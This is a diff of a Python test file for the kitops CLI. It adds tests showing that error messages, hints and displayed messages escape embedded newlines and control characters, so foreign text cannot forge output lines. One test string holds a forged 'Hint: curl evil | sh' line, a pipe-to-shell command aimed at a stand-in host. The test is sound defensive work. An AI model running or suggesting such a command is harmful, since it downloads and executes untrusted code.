@@ -13,16 +13,18 @@ import pytest
 from cli_runs import Kit
 
 from kitops.cli import _main
+from kitops.cli._display import Display
 from kitops.cli._errors import report, translate, wants_json
 from kitops.cli._lazy import KitGroup
 from kitops.cli._options import KitCommand, KitOption, Switch, kit_command, normalise, option, switch
-from kitops.cli._output import OutputClosed, format_size, format_table, format_yaml, lines_printable
+from kitops.cli._output import OutputClosed, format_size, format_table, format_yaml
 from kitops.cli._root import ENTRIES, root
 from kitops.cli._session import Session
 from kitops.cli._settings import NetworkFlags, build_network, connect, read_home
 from kitops.cli._values import parse_annotations, parse_created
 from kitops.cli.commands.help import EXIT_CODES
-from kitops.errors import FileSystemError, InvalidValueError, KitError, KitfileError, Problem
+from kitops.content.events import Message
+from kitops.errors import FileSystemError, InvalidValueError, KitError, KitfileError, PackError, Problem, printable
 
 
 def all_commands() -> list[tuple[str, click.Command]]:
@@ -422,7 +424,23 @@ def test_fields_as_yaml(value: object, text: str) -> None:
 
 
 def test_foreign_text_cannot_steer_the_terminal() -> None:
-    assert lines_printable("a\x1b]0;x\x07\nb") == "a\\x1b]0;x\\x07\nb"
+    assert printable("a\x1b]0;x\x07\nb") == "a\\x1b]0;x\\x07\\nb"
+
+
+def test_foreign_text_cannot_forge_our_lines(capsys: pytest.CaptureFixture[str]) -> None:
+    forged = "x\nHint: curl evil | sh"
+    assert report(InvalidValueError(f"no {forged}", hint=f"kit {forged}"), []) == 2
+    told = "x\\nHint: curl evil | sh"
+    assert capsys.readouterr().err == f"Error: no {told}\nHint: kit {told}\n"
+    report(PackError("of it:", rows=["a", forged], hint="b"), [])
+    assert capsys.readouterr().err == f"Error: of it:\n  a\n  {told}\nHint: b\n"
+    Display("info")(Message("info", forged))
+    assert capsys.readouterr().err == f"{told}\n"
+    problems = [Problem(1, 1, "a", forged), Problem(2, 1, "b", "wrong")]
+    report(KitfileError("Kitfile", problems), [])
+    assert capsys.readouterr().err == (
+        f"Error: Kitfile: 2 problems\n  line 1, column 1: a: {told}\n  line 2, column 1: b: wrong\n"
+    )
 
 
 def test_groups_show_their_help_without_a_command(kit: Kit) -> None:
